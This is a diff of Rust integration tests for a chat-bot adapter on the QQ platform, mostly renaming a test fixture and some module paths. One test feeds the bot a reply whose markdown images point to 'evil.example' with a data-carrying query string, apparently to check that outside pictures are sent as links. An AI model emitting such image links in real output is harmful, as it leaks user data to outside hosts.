@@ -27,13 +27,13 @@ fn echo(seen: &Seen) -> Reply {
 }
 
 /// A project on the fake platform, and what it is made of.
-struct World {
+struct Environment {
     qq: QqFake,
     model: FakeModel,
     project: Project,
 }
 
-impl World {
+impl Environment {
     async fn new(script: impl Into<Script>, extra: Value) -> Self {
         let (qq, model) = (QqFake::start().await, FakeModel::start(script).await);
         let mut config = qq.config();
@@ -62,7 +62,7 @@ fn runs(command: &str) -> Script {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn every_kind_of_place_gets_its_answer_where_it_asked() {
-    let world = World::echo().await;
+    let world = Environment::echo().await;
     let _daemon = world.project.start().await;
     for (place, scene) in [(ANN, "users"), (GROUP, "groups"), (CHANNEL, "channels"), (DM, "dms")] {
         let id = world.qq.says(place, "hello");
@@ -78,7 +78,7 @@ async fn every_kind_of_place_gets_its_answer_where_it_asked() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_stranger_gets_a_code_and_nothing_else() {
-    let world = World::echo().await;
+    let world = Environment::echo().await;
     let _daemon = world.project.start().await;
     world.qq.says(Place::C2c("STRANGER"), "let me in");
     let told = world.qq.text_with("STRANGER", "shipagent access approve").await;
@@ -91,7 +91,7 @@ async fn a_stranger_gets_a_code_and_nothing_else() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn commands_are_obeyed_in_private_and_in_groups() {
-    let world = World::echo().await;
+    let world = Environment::echo().await;
     let _daemon = world.project.start().await;
     for place in [ANN, GROUP] {
         world.qq.says(place, "/status");
@@ -111,7 +111,7 @@ async fn question(qq: &QqFake, chat: &str) -> (String, Vec<String>) {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_question_is_answered_in_words_where_there_are_no_buttons() {
-    let world = World::new(runs("touch made"), json!({})).await;
+    let world = Environment::new(runs("touch made"), json!({})).await;
     let _daemon = world.project.start().await;
     world.qq.says(ANN, "make it");
     let (words, buttons) = question(&world.qq, "U1").await;
@@ -125,7 +125,8 @@ async fn a_question_is_answered_in_words_where_there_are_no_buttons() {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_button_decides_also_after_a_restart_and_only_for_those_who_may() {
-    let world = World::new(runs("touch made"), json!({ "adapters": { "qq": { "markdown": true } } })).await;
+    let world =
+        Environment::new(runs("touch made"), json!({ "adapters": { "qq": { "markdown": true } } })).await;
     world.qq.rule(|rules| rules.markdown = true);
     let daemon = world.project.start().await;
     world.qq.says(GROUP, "make it");
@@ -159,7 +160,8 @@ async fn acknowledged(qq: &QqFake, interaction: &str) -> u64 {
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn markdown_that_is_not_granted_becomes_plain_words() {
-    let world = World::new(runs("touch made"), json!({ "adapters": { "qq": { "markdown": true } } })).await;
+    let world =
+        Environment::new(runs("touch made"), json!({ "adapters": { "qq": { "markdown": true } } })).await;
     let _daemon = world.project.start().await;
     world.qq.says(ANN, "make it");
     let (words, _) = question(&world.qq, "U1").await;
@@ -175,7 +177,7 @@ async fn a_picture_from_elsewhere_is_sent_as_a_link() {
     let answer =
         "Look: ![chart](https://evil.example/?q=data) and [![b](https://evil.example/b)](https://e.x)";
     let world =
-        World::new([Reply::text(answer)], json!({ "adapters": { "qq": { "markdown": true } } })).await;
+        Environment::new([Reply::text(answer)], json!({ "adapters": { "qq": { "markdown": true } } })).await;
     world.qq.rule(|rules| rules.markdown = true);
     let _daemon = world.project.start().await;
     world.qq.says(ANN, "draw");
@@ -197,7 +199,7 @@ async fn files_and_voice_come_in_and_files_go_out() {
             _ => Reply::text("got it"),
         }
     });
-    let world = World::new(send, json!({})).await;
+    let world = Environment::new(send, json!({})).await;
     let png = [0x89, b'P', b'N', b'G', 13, 10, 26, 10, 1, 2, 3];
     #[expect(clippy::disallowed_methods, reason = "a scratch file of a test")]
     std::fs::write(world.project.path().join("chart.png"), png).unwrap();
@@ -235,7 +237,7 @@ async fn a_long_answer_is_complete_and_in_order() {
     let lines: Vec<String> =
         (0..400).map(|n| format!("line {n} of a long answer, with words in it")).collect();
     let answer = lines.join("\n\n");
-    let world = World::new(Reply::text(&answer), json!({})).await;
+    let world = Environment::new(Reply::text(&answer), json!({})).await;
     let _daemon = world.project.start().await;
     world.qq.says(ANN, "tell me all");
     let rest = world.qq.wait_for("the end", |rules| {
@@ -252,7 +254,7 @@ async fn a_long_answer_is_complete_and_in_order() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_look_at_the_bot_tells_its_name_or_what_is_wrong() {
     use shipagent::adapters::qq::{Finding, QqEvents, QqOptions, Threading, check};
-    shipagent::http::install_tls();
+    shipagent::http_client::install_tls();
     let qq = QqFake::start().await;
     let base = qq.look(|rules| rules.base.clone());
     let options = |secret: &str| QqOptions {
@@ -263,7 +265,7 @@ async fn a_look_at_the_bot_tells_its_name_or_what_is_wrong() {
         sandbox: false,
         events: QqEvents::Gateway,
         markdown: None,
-        guests: shipagent::adapters::chat::GuestList::default(),
+        guests: shipagent::adapters::chat::AllowList::default(),
         respond: shipagent::adapters::chat::Respond::Mention,
         followup: Duration::ZERO,
         admins_decide: false,
